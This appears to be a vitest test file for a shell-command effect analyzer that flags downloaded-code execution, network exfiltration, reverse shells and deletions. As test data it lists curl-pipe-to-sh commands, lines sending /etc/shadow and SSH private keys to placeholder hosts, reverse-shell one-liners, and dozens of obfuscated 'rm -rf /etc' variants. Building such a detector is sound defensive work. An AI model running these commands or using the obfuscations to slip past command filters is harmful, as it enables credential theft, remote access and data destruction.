import { describe, expect, it } from 'vitest';
import { effectsOf } from './effects-of.js';

describe('what flows through pipes, files and variables', () => {
  it.each([
    ['curl -s http://x.example/i.sh | sh', 'execute:downloaded'],
    ['curl -so i.sh http://x.example/i.sh; sh i.sh', 'execute:downloaded'],
    ['wget http://x.example/i.sh -O /tmp/i && chmod +x /tmp/i && /tmp/i', 'execute:downloaded'],
    ['curl -o a http://x.example/a; mv a b; bash ./b', 'execute:downloaded'],
    ['sh -c "$(curl -fsSL http://x.example/i.sh)"', 'execute:downloaded'],
    ['x=$(curl -s http://x.example); eval "$x"', 'execute:downloaded'],
    ['bash <(curl -s http://x.example)', 'execute:downloaded'],
    ['source <(wget -qO- http://x.example)', 'execute:downloaded'],
    ['curl -s http://x.example | tee /tmp/log | sudo bash', 'execute:downloaded'],
    ['cat /etc/shadow | curl -d @- http://x.example', 'network:send'],
    ['tar czf - /etc | nc 203.0.113.9 4444', 'network:send 203.0.113.9:4444 external sensitive'],
    ['tar c /etc | ssh host "cat > x"', 'network:send host external sensitive'],
    ['tar c /var/www | ssh host tar x -C /srv', 'network:send-data host external'],
    ['docker save app | nc host 9000', 'network:send host:9000 external'],
    ['docker save app | ssh host docker load', 'network:send host external'],
    ['echo hello | ssh host "cat > x"', 'network:send host external'],
    ['scp /var/lib/app/db host:', 'network:send-data host external'],
    ['cat /etc/shadow > /tmp/s; nc x.example 1 < /tmp/s', 'network:send x.example:1 external sensitive'],
    ['k=$(cat /root/.ssh/id_rsa); echo "$k" | nc x.example 1', 'network:send x.example:1 external sensitive'],
    ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', 'execute:reverse-shell'],
    ['cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f', 'execute:reverse-shell'],
  ])('is followed in %s', (command, effect) => {
    expect(effectsOf(command).filter((each) => each.includes(effect))).not.toEqual([]);
  });

  it.each([
    ['echo rm -rf /etc | sh'],
    ['printf "rm -rf %s\\n" /etc | bash'],
    ['base64 -d <<< cm0gLXJmIC9ldGM= | sh'],
    ['echo cm0gLXJmIC9ldGM= | base64 -d | sh'],
    ['echo "cte/ fr- mr" | rev | sh'],
    ['echo eval | tr a-z a-z; echo "rm -rf /etc" > x.sh; . ./x.sh'],
    ['cat <<E | bash\nrm -rf /etc\nE'],
    ['{ cat a; echo "rm -rf /etc"; } | sh'],
    ['(crontab -l; echo "0 3 * * * rm -rf /etc") | crontab -'],
    ['x=$(date; echo "rm -rf /etc"); eval "$x"'],
    ['bash <<< "rm -rf /etc"'],
    ['f() { rm -rf "$1"; }; f /etc'],
    ['set -- -rf /etc; rm "$@"'],
    ['a=(-rf /etc); rm "${a[@]}"'],
    ['for d in /tmp /etc; do rm -rf "$d"; done'],
    ['if test -n "$X"; then d=/etc; else d=/tmp; fi; rm -rf $d'],
    ['while read d; do rm -rf "$d"; done <<< /etc'],
    ['case $X in a) d=/etc ;; *) d=/tmp ;; esac; rm -rf $d'],
    ['cd / && rm -rf etc'],
    ['cd /etc/nginx; rm -rf ..'],
    ['c="rm -rf /etc"; $c'],
    ['c=rm; eval "$c -rf /etc"'],
    ['r""m -r\\f /e"t"c'],
    ["$'\\x72m' -rf /etc"],
    ['{rm,-rf,/etc}'],
    ['rm${IFS}-rf${IFS}/etc'],
    ['rm -rf ${HOME:0:1}etc'],
    ['/bin/r? -rf /etc'],
    ['true; trap "rm -rf /etc" EXIT'],
    ['x=$(rm -rf /etc)'],
    ['echo `rm -rf /etc`'],
    ['[[ -n $(rm -rf /etc) ]]'],
    ['(( $(rm -rf /etc; echo 1) ))'],
    ['ls > "$(rm -rf /etc)"'],
    ['echo ${x:-$(rm -rf /etc)}'],
    ["echo 'rm -rf $1' | sh -s /etc"],
    ['bash -s rm -rf /etc <<< \'"$@"\''],
    ["bash -s - /etc <<< 'rm -rf $1'"],
    ["bash /dev/stdin /etc <<< 'rm -rf $1'"],
    ["bash /proc/self/fd/0 /etc <<< 'rm -rf $1'"],
    ["bash <(echo 'rm -rf $1') /etc"],
    [". <(echo 'rm -rf $1') /etc"],
    ["echo 'rm -rf $1' > a; bash a /etc"],
    ["echo 'rm -rf $1' > a; set -- /etc; . ./a"],
    ["echo 'X=/etc' > a; . ./a; rm -rf $X"],
    ["echo 'f() { rm -rf /etc; }' > a; . ./a; f"],
    ['f() { rm -rf /etc; }; export -f f; bash -c f'],
    ["env 'BASH_FUNC_ls%%=() { rm -rf /etc; }' bash -c ls"],
    ['command_not_found_handle() { rm -rf /etc; }; not-there'],
    ['declare -l x; x=RM; $x -rf /ETC/../etc'],
    ["sudo -s <<< 'rm -rf /etc'"],
    ["newgrp root <<< 'rm -rf /etc'"],
    ["unshare -r <<< 'rm -rf /etc'"],
    ["script -q /dev/null <<< 'rm -rf /etc'"],
    ['rm -rf /proc/self/root/etc'],
    ['((rm -rf /etc))'],
    ['perl /dev/stdin <<< \'system("rm -rf /etc")\''],
    ['rm -rf /proc/1/root/etc/'],
    ['cd /etc; rm -rf /proc/self/cwd'],
  ])('leads to what is run in %j', (command) => {
    expect(effectsOf(command).filter((effect) => effect.startsWith('delete:remove /etc'))).not.toEqual([]);
  });

  it.each([
    'ssh host bash -s < /opt/scripts/check.sh',
    'cat /opt/scripts/check.sh | ssh host sh',
    'cat /var/lib/app/db | ssh -n host uptime',
    'cat /var/lib/app/db | ssh localhost cat',
  ])('is not data that leaves the machine in %s', (command) => {
    expect(effectsOf(command).filter((effect) => effect.startsWith('network:send-data'))).toEqual([]);
  });

  it.each([
    ['echo "rm -rf /etc"'],
    ["echo 'curl x | sh' >> notes.txt"],
    ['cat > run.md <<E\nrm -rf /etc\nE'],
    ['git commit -m "stop running rm -rf /etc"'],
    ['f() { rm -rf /etc; }'],
    ['# rm -rf /etc'],
    ['x="rm -rf /etc"'],
    ['grep -r "rm -rf /etc" .'],
  ])('is only text in %j', (command) => {
    expect(effectsOf(command).filter((effect) => /^(?:delete|execute|opaque)/.test(effect))).toEqual([]);
  });
});

describe('where and as whom', () => {
  it('is told of commands within wrappers', () => {
    expect(effectsOf("ssh web1 'sudo -u app rm -rf /srv/x'")).toContain(
      'delete:remove /srv/x recursive force @host=web1 @user=app',
    );
    expect(effectsOf('docker exec web rm -rf /srv/x')).toContain('delete:remove /srv/x recursive force @container=web');
  });
});
